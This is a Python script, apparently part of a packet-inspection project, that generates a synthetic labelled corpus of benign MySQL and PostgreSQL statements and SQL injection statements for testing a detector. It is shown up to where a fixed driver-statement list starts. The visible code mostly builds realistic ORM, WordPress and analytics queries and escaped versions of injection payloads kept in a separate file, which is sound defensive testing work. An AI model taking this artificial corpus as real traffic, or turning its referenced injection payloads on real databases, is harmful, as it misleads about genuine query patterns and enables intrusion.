#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Generate the labelled statement corpus for dpi_sqli_stmt_check():
benign.txt and attack.txt in this directory (or OUTDIR).

Each line is  <d> TAB <tag> TAB <statement>  where <d> is m (MySQL) or p
(PostgreSQL) and the statement is written as is; M and P mean that the
statement spans lines and is escaped (backslash-n, backslash-r,
backslash-t, backslash-backslash). <tag> says where the line comes from
(for the figures per kind).

Benign statements are what applications, ORMs, drivers, command-line
clients, pgbench and migration tools send; the statements of
tests/data/l7-mysql.pcap and l7-pgsql.pcap are added when tshark is
installed. Attack statements are the payloads of ../sqli/attack.txt put
into query templates the way a vulnerable application concatenates them
(see README.md for the substitution rule), plus hand-written ones.

Deterministic (fixed seed, no network): /usr/bin/python3 gen.py [OUTDIR]
"""
import os
import random
import re
import subprocess
import sys
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else HERE
DATA = os.path.dirname(HERE)
R = random.Random(0x53514C53)

# ------------------------------------------------------------------ values

FIRST = ["James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "William",
         "Elizabeth", "David", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah",
         "Ana", "Jürgen", "Zoë", "Siobhán", "Renée", "Mohammed", "Wei", "Yuki", "Olga", "Priya"]
LAST = ["Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
        "O'Brien", "O'Neil", "D'Angelo", "McDonald", "van der Berg", "Müller", "Nguyen", "Kowalski",
        "L'Estrange", "Dell'Acqua", "N'Diaye", "Fitzgerald", "Okafor", "Sánchez", "Olsen"]
CITIES = ["Zurich", "Berlin", "Paris", "London", "New York", "São Paulo", "Côte d'Ivoire", "L'Aquila",
          "Osaka", "Nairobi", "Toronto", "Sydney", "Reykjavík", "Montréal", "Ho Chi Minh City"]
WORDS = ["union station", "select comfort", "drop shipping", "order by phone", "group travel",
         "insert coin", "update firmware", "delete account", "table lamp", "where is my order",
         "or else", "and more", "like new", "sleep mask", "benchmark report", "version control",
         "user guide", "database design", "information desk", "schema therapy", "null pointer",
         "true story", "false alarm", "waitfor it", "exec summary", "truncate text", "alter ego",
         "grant application", "it's fine", "don't panic", "rock'n'roll", "5' 11\"", "50% off",
         "c:\\temp\\x", "a -- b", "#hashtag", "1; 2; 3", "/* not a comment */", "x = 1 or y = 2",
         "SELECT name FROM t WHERE id = 1", "O'Reilly books", "women's shoes", "kids' toys",
         "wireless mouse", "usb-c cable", "coffee beans", "running shoes", "garden hose", "desk"]
STATUS = ["open", "pending", "shipped", "delivered", "cancelled", "refunded", "active", "archived"]
TLDS = ["com", "org", "net", "io", "de", "ch", "co.uk"]


def name():
    return "%s %s" % (R.choice(FIRST), R.choice(LAST))


def email():
    return "%s.%s%s@example.%s" % (R.choice(FIRST).lower(), R.choice(LAST).lower().replace(" ", ""),
                                    R.choice(["", str(R.randint(1, 99))]), R.choice(TLDS))


def uuid4():
    return "%08x-%04x-4%03x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(12),
                                           0x8000 | R.getrandbits(14), R.getrandbits(48))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def ts():
    return "2024-%02d-%02d %02d:%02d:%02d" % (R.randint(1, 12), R.randint(1, 28), R.randint(0, 23),
                                               R.randint(0, 59), R.randint(0, 59))


def day():
    return "2024-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))


def money():
    return "%d.%02d" % (R.randint(0, 999), R.randint(0, 99))


def text():
    return R.choice([name, email, lambda: R.choice(WORDS), lambda: R.choice(CITIES), uuid4,
                     lambda: "%s, %s" % (R.choice(WORDS), R.choice(CITIES))])()


def qm(s):
    """MySQL literal as client libraries escape it (backslash or doubled quote)."""
    s = s.replace("\\", "\\\\")
    return "'" + (s.replace("'", "\\'") if R.random() < 0.6 else s.replace("'", "''")) + "'"


def qp(s):
    """PostgreSQL literal (standard_conforming_strings on), sometimes E''."""
    if "\\" in s or R.random() < 0.05:
        return "E'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"
    return "'" + s.replace("'", "''") + "'"


def q(d, s):
    return qm(s) if d == "m" else qp(s)


def ident(d, s):
    return "`%s`" % s if d == "m" else '"%s"' % s


# ------------------------------------------------------------------ models

MODELS = {
    "users": ["id", "email", "name", "password_hash", "created_at", "is_active", "last_login"],
    "products": ["id", "name", "sku", "price", "category_id", "stock", "created_at"],
    "orders": ["id", "user_id", "total", "status", "created_at", "shipped_at"],
    "posts": ["id", "title", "slug", "body", "author_id", "published_at"],
    "comments": ["id", "post_id", "author_id", "body", "created_at"],
    "customers": ["id", "name", "city", "email", "phone"],
    "invoices": ["id", "customer_id", "number", "amount", "due_date", "paid"],
    "events": ["id", "kind", "payload", "occurred_at", "source"],
    "accounts": ["id", "owner_id", "balance", "currency", "updated_at"],
    "tags": ["id", "name", "slug"],
}
TEXT_COLS = {"email", "name", "title", "slug", "body", "status", "city", "phone", "number", "kind",
             "source", "currency", "sku", "payload", "password_hash"}


def col_value(d, c):
    if c in ("email",):
        return q(d, email())
    if c in ("name", "title"):
        return q(d, R.choice([name(), R.choice(WORDS), R.choice(CITIES)]))
    if c == "status":
        return q(d, R.choice(STATUS))
    if c in ("created_at", "updated_at", "published_at", "occurred_at", "shipped_at", "last_login"):
        return q(d, ts())
    if c == "due_date":
        return q(d, day())
    if c in ("price", "total", "amount", "balance"):
        return money()
    if c in ("is_active", "paid"):
        return R.choice(["TRUE", "FALSE", "1", "0"]) if d == "m" else R.choice(["TRUE", "FALSE", "true", "false"])
    if c in TEXT_COLS:
        return q(d, text())
    return str(R.randint(1, 200000))


def model():
    t = R.choice(sorted(MODELS))
    return t, MODELS[t]


# ---------------------------------------------------------------- ORM shapes

def django(d):
    t, cols = model()
    tbl = "app_" + t.rstrip("s")
    i = lambda c: "%s.%s" % (ident(d, tbl), ident(d, c))
    sel = ", ".join(i(c) for c in cols)
    c = R.choice(cols[1:])
    k = R.randint(0, 9)
    if k == 0:
        return "SELECT %s FROM %s WHERE %s = %d LIMIT 21" % (sel, ident(d, tbl), i("id"), R.randint(1, 9999))
    if k == 1:
        return "SELECT %s FROM %s WHERE %s = %s" % (sel, ident(d, tbl), i(c), col_value(d, c))
    if k == 2:
        op = "LIKE" if d == "m" else R.choice(["LIKE", "ILIKE"])
        return "SELECT %s FROM %s WHERE %s %s %s ORDER BY %s DESC LIMIT 25" % (
            sel, ident(d, tbl), i(cols[1]), op, q(d, "%" + R.choice(WORDS) + "%"), i("id"))
    if k == 3:
        return "SELECT COUNT(*) AS %s FROM %s WHERE %s IN (%s)" % (
            ident(d, "__count"), ident(d, tbl), i("id"), ", ".join(str(R.randint(1, 999)) for _ in range(R.randint(1, 8))))
    if k == 4:
        return "SELECT 1 AS %s FROM %s WHERE %s = %s LIMIT 1" % (ident(d, "a"), ident(d, tbl), i(c), col_value(d, c))
    if k == 5:
        return "UPDATE %s SET %s = %s WHERE %s = %d" % (ident(d, tbl), ident(d, c), col_value(d, c), i("id"), R.randint(1, 9999))
    if k == 6:
        vals = ", ".join(col_value(d, x) for x in cols[1:])
        ret = " RETURNING %s" % i("id") if d == "p" else ""
        return "INSERT INTO %s (%s) VALUES (%s)%s" % (ident(d, tbl), ", ".join(ident(d, x) for x in cols[1:]), vals, ret)
    if k == 7:
        return "DELETE FROM %s WHERE %s IN (%s)" % (ident(d, tbl), i("id"), ", ".join(str(R.randint(1, 999)) for _ in range(R.randint(1, 5))))
    if k == 8:
        ts_ = "'%s'::timestamptz" % ts() if d == "p" else "'%s'" % ts()
        return ("SELECT %s.%s, %s.%s, %s.%s FROM %s WHERE (%s.%s > %s AND %s.%s = '%s')" %
                (ident(d, "django_session"), ident(d, "session_key"), ident(d, "django_session"), ident(d, "session_data"),
                 ident(d, "django_session"), ident(d, "expire_date"), ident(d, "django_session"),
                 ident(d, "django_session"), ident(d, "expire_date"), ts_, ident(d, "django_session"),
                 ident(d, "session_key"), hexs(32)))
    return "SELECT %s FROM %s INNER JOIN %s ON (%s = %s.%s) WHERE (%s = %s AND %s IS NULL) ORDER BY %s ASC" % (
        sel, ident(d, tbl), ident(d, "auth_user"), i("id"), ident(d, "auth_user"), ident(d, "id"),
        i(c), col_value(d, c), i(cols[-1]), i("id"))


def rails(d):
    t, cols = model()
    T = ident(d, t)
    i = lambda c: "%s.%s" % (T, ident(d, c))
    c = R.choice(cols[1:])
    k = R.randint(0, 11)
    v = col_value(d, c)
    if d == "p" and R.random() < 0.5:
        v = "$1"
    if k == 0:
        return "SELECT %s.* FROM %s WHERE %s = %s LIMIT %s" % (T, T, i(c), v, "$2" if v == "$1" else "1")
    if k == 1:
        return "SELECT %s.* FROM %s WHERE 1=0" % (T, T)
    if k == 2:
        return "SELECT %s.* FROM %s WHERE %s = %s AND 1=0" % (T, T, i(c), col_value(d, c))
    if k == 3:
        return "SELECT %s.* FROM %s WHERE (%s = %s OR 1=0)" % (T, T, i(c), col_value(d, c))
    if k == 4:
        return "SELECT %s.* FROM %s ORDER BY %s.%s ASC LIMIT %d OFFSET %d" % (T, T, T, ident(d, "id"), R.choice([20, 25, 50]), R.randint(0, 40) * 25)
    if k == 5:
        return "SELECT COUNT(*) FROM %s WHERE %s IN (%s)" % (T, i(c), ", ".join(col_value(d, c) for _ in range(R.randint(1, 4))))
    if k == 6:
        return "UPDATE %s SET %s = %s, %s = %s WHERE %s = %d" % (T, ident(d, c), col_value(d, c), ident(d, "updated_at"), q(d, ts()), i("id"), R.randint(1, 99999))
    if k == 7:
        return R.choice(["SAVEPOINT active_record_1", "RELEASE SAVEPOINT active_record_1", "ROLLBACK TO SAVEPOINT active_record_1", "BEGIN", "COMMIT"])
    if k == 8:
        return "SELECT 1 AS one FROM %s WHERE %s = %s LIMIT 1" % (T, i(c), col_value(d, c))
    if k == 9:
        return "SELECT %s.* FROM %s WHERE %s.%s = %s AND %s BETWEEN %s AND %s" % (
            T, T, T, ident(d, "id"), R.randint(1, 999), i("created_at"), q(d, ts()), q(d, ts()))
    if k == 10:
        return "SELECT %s.* FROM %s WHERE %s IS NULL AND %s != %s /*application:Shop,controller:%s,action:%s*/" % (
            T, T, i(cols[-1]), i(c), col_value(d, c), t, R.choice(["index", "show", "update"]))
    return "INSERT INTO %s (%s) VALUES (%s)%s" % (T, ", ".join(ident(d, x) for x in cols[1:]),
                                                 ", ".join(col_value(d, x) for x in cols[1:]),
                                                 " RETURNING %s" % ident(d, "id") if d == "p" else "")


def hibernate(d):
    t, cols = model()
    a = t[:4] + "0_"
    sel = ", ".join("%s.%s as %s%d_0_" % (a, c, c[:5], n + 1) for n, c in enumerate(cols))
    c = R.choice(cols[1:])
    k = R.randint(0, 6)
    if k == 0:
        return "select %s from %s %s where %s.%s=%s" % (sel, t, a, a, c, "?" if d == "m" else "$1")
    if k == 1:
        return "select %s from %s %s where %s.%s=%s" % (sel, t, a, a, c, col_value(d, c))
    if k == 2:
        return "/* load com.example.domain.%s */ select %s from %s %s where %s.id=%d" % (t.title().rstrip("s"), sel, t, a, a, R.randint(1, 9999))
    if k == 3:
        return "select count(%s.id) as col_0_0_ from %s %s where %s.%s in (%s) and 1=1" % (a, t, a, a, c, ", ".join(col_value(d, c) for _ in range(3)))
    if k == 4:
        return "update %s set %s=%s, version=%d where id=%d and version=%d" % (t, c, col_value(d, c), R.randint(2, 9), R.randint(1, 999), R.randint(1, 8))
    if k == 5:
        return ("select x.id, x.name, x.extra, x.clazz_ from ( select id, name, null as extra, 1 as clazz_ from base_item "
                "union all select id, name, extra, 2 as clazz_ from special_item ) x where x.id=%d" % R.randint(1, 999))
    return "select nextval ('hibernate_sequence')" if d == "p" else "select next_val as id_val from hibernate_sequence for update"


def sqlalchemy(d):
    t, cols = model()
    sel = ", ".join("%s.%s AS %s_%s" % (t, c, t, c) for c in cols)
    c = R.choice(cols[1:])
    k = R.randint(0, 6)
    if k == 0:
        return "SELECT %s \nFROM %s \nWHERE %s.%s = %s" % (sel, t, t, c, col_value(d, c))
    if k == 1:
        return "SELECT %s \nFROM %s \nWHERE %s.id IN (NULL) AND (1 != 1)" % (sel, t, t)
    if k == 2:
        return "SELECT %s \nFROM %s \nWHERE %s.%s = %s \n LIMIT %d OFFSET %d" % (sel, t, t, c, col_value(d, c), 10, R.randint(0, 9) * 10)
    if k == 3:
        return "SELECT count(*) AS count_1 \nFROM (SELECT %s \nFROM %s \nWHERE %s.%s > %s) AS anon_1" % (sel, t, t, "id", R.randint(1, 999))
    if k == 4:
        return "SELECT %s \nFROM %s \nWHERE 1 != 1" % (sel, t)
    if k == 5:
        return "SELECT %s \nFROM %s \nWHERE %s.%s = %s OR %s.%s IS NULL" % (sel, t, t, c, col_value(d, c), t, c)
    return "SELECT %s \nFROM %s \nWHERE true AND %s.%s = %s" % (sel, t, t, c, col_value(d, c)) if d == "p" else \
        "SELECT %s \nFROM %s \nWHERE %s.%s = %s FOR UPDATE" % (sel, t, t, c, col_value(d, c))


def gorm(d):
    t, cols = model()
    T = ident(d, t)
    c = R.choice(cols[1:])
    k = R.randint(0, 5)
    if k == 0:
        return "SELECT * FROM %s WHERE %s = %s AND %s.%s IS NULL ORDER BY %s.%s LIMIT 1" % (
            T, c, col_value(d, c), T, ident(d, "deleted_at"), T, ident(d, "id"))
    if k == 1:
        return "SELECT * FROM %s WHERE %s.%s = %d AND %s.%s IS NULL" % (T, T, ident(d, "id"), R.randint(1, 99999), T, ident(d, "deleted_at"))
    if k == 2:
        return "UPDATE %s SET %s=%s,%s=%s WHERE %s = %d AND %s.%s IS NULL" % (
            T, ident(d, c), col_value(d, c), ident(d, "updated_at"), q(d, ts()), ident(d, "id"), R.randint(1, 999), T, ident(d, "deleted_at"))
    if k == 3:
        return "SELECT count(*) FROM %s WHERE (%s LIKE %s OR %s LIKE %s) AND %s.%s IS NULL" % (
            T, c, q(d, "%" + R.choice(WORDS) + "%"), cols[1], q(d, "%" + R.choice(WORDS) + "%"), T, ident(d, "deleted_at"))
    if k == 4:
        return "INSERT INTO %s (%s) VALUES (%s) RETURNING %s" % (T, ",".join(ident(d, x) for x in cols[1:]),
                                                                ",".join("$%d" % (n + 1) for n in range(len(cols) - 1)), ident(d, "id")) \
            if d == "p" else "INSERT INTO %s (%s) VALUES (%s)" % (T, ",".join(ident(d, x) for x in cols[1:]), ",".join("?" for _ in cols[1:]))
    return "SELECT * FROM %s WHERE %s IN (%s) AND %s.%s IS NULL" % (T, ident(d, "id"), ",".join(str(R.randint(1, 999)) for _ in range(R.randint(1, 9))), T, ident(d, "deleted_at"))


def sequelize(d):
    t, cols = model()
    M = t.title().rstrip("s")
    T = ident(d, t.title())
    sel = ", ".join(ident(d, c) for c in cols)
    c = R.choice(cols[1:])
    k = R.randint(0, 3)
    if k == 0:
        return "SELECT %s FROM %s AS %s WHERE %s.%s = %s LIMIT 1;" % (sel, T, ident(d, M), ident(d, M), ident(d, c), col_value(d, c))
    if k == 1:
        return "SELECT %s FROM %s AS %s WHERE %s.%s IN (%s);" % (sel, T, ident(d, M), ident(d, M), ident(d, "id"), ", ".join(str(R.randint(1, 99)) for _ in range(3)))
    if k == 2:
        return "UPDATE %s SET %s=%s,%s=%s WHERE %s = %d" % (T, ident(d, c), col_value(d, c), ident(d, "updatedAt"), q(d, ts()), ident(d, "id"), R.randint(1, 999))
    return "SELECT count(*) AS %s FROM %s AS %s WHERE %s.%s > %s;" % (ident(d, "count"), T, ident(d, M), ident(d, M), ident(d, "createdAt"), q(d, ts()))


def laravel(d):
    t, cols = model()
    T = ident(d, t)
    c = R.choice(cols[1:])
    k = R.randint(0, 5)
    if k == 0:
        return "select * from %s where %s = %s and %s.%s is null limit 1" % (T, ident(d, c), col_value(d, c), T, ident(d, "deleted_at"))
    if k == 1:
        return "select * from %s where %s.%s in (%s)" % (T, T, ident(d, "id"), ", ".join(str(R.randint(1, 999)) for _ in range(R.randint(1, 6))))
    if k == 2:
        return "select count(*) as aggregate from %s where %s like %s" % (T, ident(d, c), q(d, "%" + R.choice(WORDS) + "%"))
    if k == 3:
        return "update %s set %s = %s, %s = %s where %s = %d" % (T, ident(d, c), col_value(d, c), ident(d, "updated_at"), q(d, ts()), ident(d, "id"), R.randint(1, 999))
    if k == 4:
        return "select * from %s where (%s = %s or %s = %s) order by %s desc limit 15 offset %d" % (
            T, ident(d, c), col_value(d, c), ident(d, c), col_value(d, c), ident(d, "created_at"), R.randint(0, 20) * 15)
    return "select exists(select * from %s where %s = %s) as %s" % (T, ident(d, c), col_value(d, c), ident(d, "exists"))


def doctrine(d):
    t, cols = model()
    sel = ", ".join("t0.%s AS %s_%d" % (c, c, n + 1) for n, c in enumerate(cols))
    c = R.choice(cols[1:])
    k = R.randint(0, 2)
    if k == 0:
        return "SELECT %s FROM %s t0 WHERE t0.%s = %s LIMIT 1" % (sel, t, c, col_value(d, c))
    if k == 1:
        return "SELECT %s FROM %s t0 WHERE t0.id IN (%s)" % (sel, t, ", ".join("?" if d == "m" else "$%d" % (n + 1) for n in range(3)))
    return "SELECT %s FROM %s t0 WHERE t0.%s = %s ORDER BY t0.id DESC" % (sel, t, c, col_value(d, c))


def prisma_jooq_knex(d):
    t, cols = model()
    k = R.randint(0, 5)
    c = R.choice(cols[1:])
    if k == 0 and d == "p":
        T = '"public"."%s"' % t
        return 'SELECT %s FROM %s WHERE (%s."%s" = $1 AND 1=1) LIMIT $2 OFFSET $3' % (
            ", ".join('%s."%s"' % (T, x) for x in cols), T, T, c)
    if k == 1:
        T = ident(d, t)
        return "select %s.%s from %s where (%s.%s = %s and 1 = 1)" % (T, ident(d, "id"), T, T, ident(d, c), col_value(d, c))
    if k == 2:
        return "select %s.%s from %s where 1 = 0" % (ident(d, t), ident(d, "id"), ident(d, t))
    if k == 3:
        return "select * from %s where %s = %s limit %d" % (ident(d, t), ident(d, c), col_value(d, c), R.choice([1, 10, 100]))
    if k == 4:
        return "select * from %s where %s in (%s) and %s is not null" % (ident(d, t), ident(d, "id"), ", ".join(str(R.randint(1, 99)) for _ in range(4)), ident(d, c))
    return 'SELECT u0."id", u0."%s" FROM "%s" AS u0 WHERE (u0."%s" = %s)' % (c, t, c, "$1" if d == "p" else col_value(d, c))


def wordpress(d):
    k = R.randint(0, 6)
    if k == 0:
        return "SELECT option_value FROM wp_options WHERE option_name = %s LIMIT 1" % qm(R.choice(["siteurl", "home", "blogname", "active_plugins", "cron", "rewrite_rules"]))
    if k == 1:
        return ("SELECT SQL_CALC_FOUND_ROWS  wp_posts.ID FROM wp_posts  WHERE 1=1  AND wp_posts.post_type = 'post' AND "
                "((wp_posts.post_status = 'publish'))  ORDER BY wp_posts.post_date DESC LIMIT %d, 10" % (R.randint(0, 9) * 10))
    if k == 2:
        return "SELECT FOUND_ROWS()"
    if k == 3:
        h = "{%s}" % hexs(64)
        w = R.choice(WORDS).replace("'", "\\'")
        return ("SELECT SQL_CALC_FOUND_ROWS  wp_posts.ID FROM wp_posts  WHERE 1=1  AND (((wp_posts.post_title LIKE '%s%s%s') OR "
                "(wp_posts.post_excerpt LIKE '%s%s%s') OR (wp_posts.post_content LIKE '%s%s%s')))  AND wp_posts.post_type IN "
                "('post', 'page', 'attachment') AND (wp_posts.post_status = 'publish') ORDER BY wp_posts.post_title LIKE '%s%s%s' DESC, "
                "wp_posts.post_date DESC LIMIT 0, 10" % ((h, w, h) * 4))
    if k == 4:
        return "SELECT post_id, meta_key, meta_value FROM wp_postmeta WHERE post_id IN (%s) ORDER BY meta_id ASC" % ",".join(str(R.randint(1, 9999)) for _ in range(R.randint(1, 10)))
    if k == 5:
        return "UPDATE `wp_options` SET `option_value` = %s WHERE `option_name` = '_transient_doing_cron'" % qm("%d.%06d" % (R.randint(1700000000, 1800000000), R.randint(0, 999999)))
    return "SELECT * FROM wp_users WHERE user_login = %s LIMIT 1" % qm(R.choice(["admin", "editor", name().split()[0].lower(), "o'connor"]))


def analytics(d):
    k = R.randint(0, 9)
    t1, t2 = R.sample(["2023-01-01", "2023-06-01", "2024-01-01", "2024-03-01", "2024-07-01"], 2)
    iv = "NOW() - INTERVAL %d DAY" % R.randint(1, 90) if d == "m" else "now() - interval '%d days'" % R.randint(1, 90)
    if k == 0:
        return ("WITH recent AS (SELECT user_id, SUM(total) AS spent FROM orders WHERE created_at > %s GROUP BY user_id) "
                "SELECT u.email, r.spent FROM users u JOIN recent r ON r.user_id = u.id WHERE r.spent > %d ORDER BY r.spent DESC LIMIT 10" % (iv, R.randint(10, 1000)))
    if k == 1:
        return ("SELECT status, COUNT(*) AS n, AVG(total) FROM orders WHERE created_at BETWEEN %s AND %s GROUP BY status "
                "HAVING COUNT(*) > %d ORDER BY n DESC" % (q(d, t1), q(d, t2), R.randint(0, 50)))
    if k == 2:
        return ("SELECT id, total, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn FROM orders "
                "WHERE status IN ('paid', 'shipped') AND total >= %s" % money())
    if k == 3:
        return ("SELECT 'order' AS kind, id, created_at FROM orders WHERE user_id = %d UNION ALL "
                "SELECT 'comment', id, created_at FROM comments WHERE author_id = %d ORDER BY created_at DESC LIMIT 50" % (R.randint(1, 999), R.randint(1, 999)))
    if k == 4:
        return ("SELECT id, name, NULL AS email FROM vendors WHERE active = 1 UNION SELECT id, name, email FROM customers "
                "WHERE city = %s" % q(d, R.choice(CITIES)))
    if k == 5:
        return ("SELECT CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'medium' ELSE 'small' END AS bucket, COUNT(*) "
                "FROM orders WHERE created_at >= %s GROUP BY 1 ORDER BY 2 DESC" % q(d, t1))
    if k == 6:
        if d == "p":
            return ("SELECT date_trunc('day', occurred_at) AS d, count(*) FILTER (WHERE kind = 'error') AS errors FROM events "
                    "WHERE occurred_at > now() - interval '7 days' GROUP BY 1 ORDER BY 1")
        return "SELECT DATE(occurred_at) AS d, SUM(kind = 'error') AS errors FROM events WHERE occurred_at > NOW() - INTERVAL 7 DAY GROUP BY 1"
    if k == 7:
        return "SELECT COALESCE(SUM(amount), 0) FROM invoices WHERE customer_id = %d AND paid = %s AND due_date < %s" % (
            R.randint(1, 9999), "FALSE", "CURRENT_DATE")
    if k == 8:
        if d == "p":
            return "SELECT id, payload->>'type' AS type FROM events WHERE payload @> %s::jsonb AND source = ANY($1)" % qp('{"user": %d}' % R.randint(1, 99))
        return "SELECT id, JSON_UNQUOTE(JSON_EXTRACT(payload, '$.type')) FROM events WHERE JSON_EXTRACT(payload, '$.user') = %d" % R.randint(1, 99)
    if d == "p":
        return ("SELECT id, title, ts_rank(search, query) AS rank FROM posts, plainto_tsquery('english', %s) query "
                "WHERE search @@ query ORDER BY rank DESC LIMIT 20" % qp(R.choice(WORDS)))
    return "SELECT id, title FROM posts WHERE MATCH(title, body) AGAINST (%s IN NATURAL LANGUAGE MODE) LIMIT 20" % qm(R.choice(WORDS))


def builders(d):
    """Hand-rolled query builders: WHERE 1=1, optional filters, OR-chains."""
    t, cols = model()
    c1, c2 = R.sample(cols[1:], 2)
    k = R.randint(0, 8)
    if k == 0:
        return "SELECT * FROM %s WHERE 1=1 AND %s = %s AND %s = %s ORDER BY id" % (t, c1, col_value(d, c1), c2, col_value(d, c2))
    if k == 1:
        return "SELECT * FROM %s WHERE 1 = 1 AND %s LIKE %s" % (t, c1, q(d, "%" + R.choice(WORDS) + "%"))
    if k == 2:
        return "SELECT * FROM %s WHERE 1=0 OR %s = %s OR %s = %s" % (t, c1, col_value(d, c1), c1, col_value(d, c1))
    if k == 3:
        v = col_value(d, c1)
        return "SELECT * FROM %s WHERE (%s IS NULL OR %s = %s) AND (NULL IS NULL OR %s = NULL)" % (t, v, c1, v, c2)
    if k == 4:
        v = q(d, R.choice(["", R.choice(WORDS)]))
        return "SELECT * FROM %s WHERE (%s = '' OR %s = %s)" % (t, v, c1, v)
    if k == 5:
        return "SELECT * FROM %s WHERE TRUE AND %s > %d LIMIT %d" % (t, "id", R.randint(1, 999), R.randint(1, 100))
    if k == 6:
        return "SELECT * FROM %s WHERE %s = %s AND 1" % (t, c1, col_value(d, c1))
    if k == 7:
        return "SELECT * FROM %s WHERE (%s = %s OR %s IS NULL)" % (t, c1, col_value(d, c1), col_value(d, c1))
    return "SELECT * FROM %s WHERE %s = %s AND (1 = 1)" % (t, c1, col_value(d, c1))


def orm_or(d):
    """OR between columns, NULL checks, IN lists: what Q objects, .or() and
    scopes produce (literal values interpolated by the driver)."""
    t, cols = model()
    c1, c2 = R.sample(cols[1:], 2)
    T = ident(d, t)
    i = lambda c: "%s.%s" % (T, ident(d, c))
    k = R.randint(0, 5)
    if k == 0:
        return "SELECT %s.* FROM %s WHERE (%s = %s OR %s = %s)" % (T, T, i(c1), col_value(d, c1), i(c2), col_value(d, c2))
    if k == 1:
        return "SELECT %s.* FROM %s WHERE (%s IS NULL OR %s > %s) AND %s = %d" % (T, T, i(c1), i(c1), col_value(d, c1), i("id"), R.randint(1, 9999))
    if k == 2:
        return "SELECT %s.* FROM %s WHERE %s IN (%s) OR %s LIKE %s ORDER BY %s LIMIT %d" % (
            T, T, i("id"), ", ".join(str(R.randint(1, 9999)) for _ in range(R.randint(1, 30))), i(c1),
            q(d, R.choice(WORDS)[:4] + "%"), i("id"), R.choice([10, 20, 100]))
    if k == 3:
        return "SELECT COUNT(*) FROM %s WHERE NOT (%s = %s OR %s IS NULL)" % (T, i(c1), col_value(d, c1), i(c2))
    if k == 4:
        return "DELETE FROM %s WHERE %s < %s OR (%s = %s AND %s IS NOT NULL)" % (T, i("id"), R.randint(1, 999), i(c1), col_value(d, c1), i(c2))
    return "UPDATE %s SET %s = %s WHERE %s = %s OR %s = %s" % (T, ident(d, c1), col_value(d, c1), ident(d, c2), col_value(d, c2), ident(d, c2), col_value(d, c2))


def bulk(d):
    """Multi-row inserts whose strings hold quotes, comment markers, SQL."""
    t, cols = model()
    rows = []
    for _ in range(R.randint(2, 40)):
        rows.append("(" + ", ".join(col_value(d, c) if R.random() < 0.8 else q(d, R.choice(WORDS)) for c in cols[1:]) + ")")
    tail = " ON CONFLICT DO NOTHING" if d == "p" and R.random() < 0.3 else ""
    return "INSERT INTO %s (%s) VALUES %s%s" % (ident(d, t), ", ".join(ident(d, c) for c in cols[1:]), ", ".join(rows), tail)


def bi(d):
    """What reporting tools generate (Metabase, Grafana, Superset style)."""
    t1, t2 = day(), day()
    k = R.randint(0, 4)
    if k == 0 and d == "p":
        return ('SELECT date_trunc(\'week\', "public"."orders"."created_at") AS "created_at", count(*) AS "count" FROM "public"."orders" '
                'WHERE ("public"."orders"."created_at" >= timestamp with time zone \'%s 00:00:00.000Z\' AND "public"."orders"."created_at" < '
                'timestamp with time zone \'%s 00:00:00.000Z\') GROUP BY date_trunc(\'week\', "public"."orders"."created_at") ORDER BY 1 ASC' % (t1, t2))
    if k == 1:
        return ("SELECT created_at AS time, total AS value FROM orders WHERE created_at BETWEEN '%sT00:00:00Z' AND '%sT23:59:59Z' "
                "AND 1 = 1 ORDER BY 1" % (t1, t2))
    if k == 2:
        return ("SELECT status AS status, COUNT(*) AS count FROM orders WHERE (1 = 1) AND created_at >= '%s' GROUP BY status "
                "ORDER BY count DESC LIMIT 10000" % t1)
    if k == 3:
        return ("SELECT CASE WHEN total >= 100 THEN 'large' WHEN total >= 10 THEN 'medium' ELSE 'small' END AS size, "
                "SUM(CASE WHEN status = 'refunded' THEN 1 ELSE 0 END) AS refunds FROM orders WHERE created_at > '%s' GROUP BY 1" % t1)
    return ("SELECT u.city, COUNT(DISTINCT o.user_id) FROM orders o JOIN customers u ON u.id = o.user_id WHERE o.status NOT IN "
            "('cancelled', 'refunded') AND (u.city = %s OR u.city IS NULL) GROUP BY u.city HAVING COUNT(*) > %d" % (q(d, R.choice(CITIES)), R.randint(1, 9)))


def queue(d):
    k = R.randint(0, 4)
    if k == 0:
        return ("SELECT id, queue, payload FROM jobs WHERE queue = %s AND run_at <= %s AND locked_at IS NULL "
                "ORDER BY priority DESC, run_at LIMIT 1 FOR UPDATE SKIP LOCKED" % (q(d, R.choice(["default", "mailers", "low"])), "NOW()" if d == "m" else "now()"))
    if k == 1:
        return "SELECT pg_try_advisory_lock(%d)" % R.randint(1, 2 ** 62) if d == "p" else "SELECT GET_LOCK('%s', %d)" % (R.choice(["migrations", "cron", "flyway-1"]), R.randint(0, 10))
    if k == 2:
        return "SELECT pg_advisory_unlock_all()" if d == "p" else "SELECT RELEASE_LOCK('cron')"
    if k == 3:
        return "UPDATE jobs SET locked_at = %s, locked_by = %s WHERE id = %d" % ("NOW()" if d == "m" else "now()", q(d, "host-%d:%d" % (R.randint(1, 9), R.randint(100, 99999))), R.randint(1, 10 ** 6))
    return "NOTIFY jobs, %s" % qp('{"id":%d}' % R.randint(1, 9999)) if d == "p" else "DELETE FROM jobs WHERE finished_at < NOW() - INTERVAL 14 DAY LIMIT 1000"


def escaped_payload(d, payloads):
    """What a *safe* application sends when a user types an attack: the
    payload as a properly escaped literal."""
    p = R.choice(payloads)
    t, cols = model()
    c = R.choice([x for x in cols if x in TEXT_COLS] or ["name"])
    k = R.randint(0, 3)
    if k == 0:
        return "SELECT * FROM %s WHERE %s = %s" % (t, c, q(d, p))
    if k == 1:
        return "INSERT INTO %s (%s, created_at) VALUES (%s, %s)" % (t, c, q(d, p), q(d, ts()))
    if k == 2:
        return "SELECT id FROM %s WHERE %s LIKE %s ORDER BY id LIMIT 10" % (t, c, q(d, "%" + p.replace("%", "\\%") + "%"))
    return "UPDATE %s SET %s = %s WHERE id = %d" % (t, c, q(d, p), R.randint(1, 9999))


# ----------------------------------------------------- drivers and clients

MYSQL_FIXED = [
